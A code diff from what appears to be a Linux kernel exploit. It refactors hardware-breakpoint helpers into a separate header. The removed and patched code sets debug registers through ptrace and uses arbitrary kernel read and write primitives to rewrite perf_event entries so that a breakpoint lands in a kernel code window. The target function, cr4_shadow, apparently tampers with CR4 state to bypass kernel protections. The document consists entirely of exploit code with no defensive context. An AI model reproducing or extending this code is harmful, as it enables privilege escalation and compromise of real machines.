@@ -14,6 +14,7 @@
 #include <unistd.h>
 
 #include "attack.h"
+#include "breakpoint.h"
 #include "list.h"
 #include "objects.h"
 
@@ -21,11 +22,8 @@
 #define CHILD_CPU	1
 #define CHILD_PART	0x5a
 #define PAGES		512
-#define TASK_WORDS	2048		/* at most */
-#define EVENT_SIZE	2048		/* struct perf_event, at most */
 #define CODE		128
 
-#define USER_DEBUGREG	848		/* in struct user */
 #define DR7_EXECUTE	1UL
 
 /* struct tlb_state */
@@ -77,39 +75,6 @@ static uint64_t find_window(void)
 	window = is_protected() ? find_jump(code) : 0;
 	window = window ?: find_write(code);
 	return window ? at + window : 0;
-}
-
-static int move_in_event(uint64_t event, uint64_t from, uint64_t to)
-{
-	uint64_t at;
-	int nr = 0;
-
-	while ((at = find_word(event, EVENT_SIZE, from))) {
-		if (kwrite64(at, to))
-			return 0;
-		nr++;
-	}
-	return nr;
-}
-
-static int move_breakpoint(pid_t pid, uint64_t from, uint64_t to)
-{
-	static uint64_t words[TASK_WORDS];
-	struct task task;
-	int nr = 0;
-	size_t i;
-
-	if (ktask(pid, &task) || kread(task.task, words, sizeof(words)))
-		return 0;
-	for (i = 0; i < TASK_WORDS; i++)
-		if (is_kernel_address(words[i]))
-			nr += move_in_event(words[i], from, to);
-	return nr;
-}
-
-static bool poke(pid_t pid, int reg, uint64_t value)
-{
-	return !ptrace(PTRACE_POKEUSER, pid, USER_DEBUGREG + reg * sizeof(value), value);
 }
 
 /* The entry of a page whose number ends in 8 says "breakpoint" where it is read. */
@@ -215,8 +180,8 @@ enum outcome cr4_shadow(void)
 		run_child();
 	if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
 		return broken("no child");
-	if (!poke(pid, 0, (uint64_t)&child->decoy) || !poke(pid, 7, DR7_EXECUTE) ||
-	    !move_breakpoint(pid, (uint64_t)&child->decoy, window)) {
+	if (!breakpoint_set(pid, DR7_EXECUTE, (uint64_t)&child->decoy) ||
+	    !breakpoint_move(pid, (uint64_t)&child->decoy, window)) {
 		kill(pid, SIGKILL);
 		return broken("no breakpoint");
 	}
